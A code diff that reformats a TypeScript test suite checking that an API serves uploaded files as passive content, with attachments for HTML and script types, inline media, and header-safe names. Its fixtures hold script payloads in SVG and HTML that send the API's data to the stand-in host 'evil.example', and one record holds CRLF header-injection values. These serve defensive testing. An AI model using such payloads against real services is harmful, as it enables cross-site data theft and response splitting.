@@ -25,11 +25,22 @@ afterAll(async () => {
   await a?.close()
 })
 
-const SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>fetch("/v1/spaces").then(r => r.text()).then(t => fetch("https://evil.example/?" + t))</script></svg>'
+const SVG =
+  '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>fetch("/v1/spaces").then(r => r.text()).then(t => fetch("https://evil.example/?" + t))</script></svg>'
 const HTML = '<!doctype html><script>fetch("/v1/spaces").then(r => r.json()).then(s => navigator.sendBeacon("https://evil.example", JSON.stringify(s)))</script>'
 
 const attach = async (bytes: Uint8Array | string, name: string, mime: string) =>
-  (await ok<{ fileId: string }>(a.app.inject({ method: 'POST', url: `${S}/objects/${objectId}/files?name=${encodeURIComponent(name)}&mime=${encodeURIComponent(mime)}`, payload: Buffer.from(bytes), headers: { 'content-type': 'application/octet-stream' } }), 201)).fileId
+  (
+    await ok<{ fileId: string }>(
+      a.app.inject({
+        method: 'POST',
+        url: `${S}/objects/${objectId}/files?name=${encodeURIComponent(name)}&mime=${encodeURIComponent(mime)}`,
+        payload: Buffer.from(bytes),
+        headers: { 'content-type': 'application/octet-stream' },
+      }),
+      201,
+    )
+  ).fileId
 const content = (fileId: string, query = '', headers: Record<string, string> = {}) => a.app.inject({ method: 'GET', url: `${S}/files/${fileId}/content${query}`, headers })
 
 function expectPassiveHeaders(headers: Record<string, unknown>) {
@@ -54,21 +65,39 @@ describe('file content is never active on the API origin', () => {
     for (const mime of ['text/html', 'application/xhtml+xml', 'text/xml', 'text/javascript', 'text/css', 'application/pdf+x']) {
       const res = await content(await attach(HTML, 'page.html', mime))
       expectPassiveHeaders(res.headers)
-      expect({ mime, type: res.headers['content-type'], disposition: String(res.headers['content-disposition']).split(';')[0] }).toEqual({ mime, type: 'application/octet-stream', disposition: 'attachment' })
+      expect({ mime, type: res.headers['content-type'], disposition: String(res.headers['content-disposition']).split(';')[0] }).toEqual({
+        mime,
+        type: 'application/octet-stream',
+        disposition: 'attachment',
+      })
     }
   })
 
   it('raster images, audio, video and PDF are served inline with their type; plain text as UTF-8 text', async () => {
-    const png = await sharp({ create: { width: 8, height: 8, channels: 3, background: { r: 1, g: 2, b: 3 } } }).png().toBuffer()
-    for (const [mime, served] of [['image/png', 'image/png'], ['audio/mpeg', 'audio/mpeg'], ['video/mp4', 'video/mp4'], ['application/pdf', 'application/pdf'], ['text/plain', 'text/plain; charset=utf-8']]) {
+    const png = await sharp({ create: { width: 8, height: 8, channels: 3, background: { r: 1, g: 2, b: 3 } } })
+      .png()
+      .toBuffer()
+    for (const [mime, served] of [
+      ['image/png', 'image/png'],
+      ['audio/mpeg', 'audio/mpeg'],
+      ['video/mp4', 'video/mp4'],
+      ['application/pdf', 'application/pdf'],
+      ['text/plain', 'text/plain; charset=utf-8'],
+    ]) {
       const res = await content(await attach(png, 'x.bin', mime))
       expectPassiveHeaders(res.headers)
-      expect({ mime, type: res.headers['content-type'], disposition: res.headers['content-disposition'] }).toEqual({ mime, type: served, disposition: `inline; filename="x.bin"; filename*=UTF-8''x.bin` })
+      expect({ mime, type: res.headers['content-type'], disposition: res.headers['content-disposition'] }).toEqual({
+        mime,
+        type: served,
+        disposition: `inline; filename="x.bin"; filename*=UTF-8''x.bin`,
+      })
     }
   })
 
   it('a variant carries the same headers', async () => {
-    const png = await sharp({ create: { width: 300, height: 100, channels: 3, background: { r: 9, g: 9, b: 9 } } }).png().toBuffer()
+    const png = await sharp({ create: { width: 300, height: 100, channels: 3, background: { r: 9, g: 9, b: 9 } } })
+      .png()
+      .toBuffer()
     const res = await content(await attach(png, 'wide.png', 'image/png'), '?variant=w64')
     expect(res.statusCode).toBe(200)
     expectPassiveHeaders(res.headers)
@@ -76,7 +105,7 @@ describe('file content is never active on the API origin', () => {
     expect(res.headers['content-disposition']).toMatch(/^inline; /)
   })
 
-  it("a record a member wrote by hand with a hostile type and name is still an opaque attachment with a header-safe name", async () => {
+  it('a record a member wrote by hand with a hostile type and name is still an opaque attachment with a header-safe name', async () => {
     const body = Buffer.from(HTML)
     const doc = { name: 'x"\r\nSet-Cookie: a=b;.html', mime: 'TEXT/HTML\r\nX-Injected: 1', size: body.length, creator: a.accountId, hash: 'h', inline: body.toString('base64') }
     await ok(call(a.app, 'POST', `${S}/modify`, { objectId, dataset: 'files', records: [{ id: 'HandMade1', upsert: true, ops: [{ type: '$set', path: '', value: doc }] }] }))
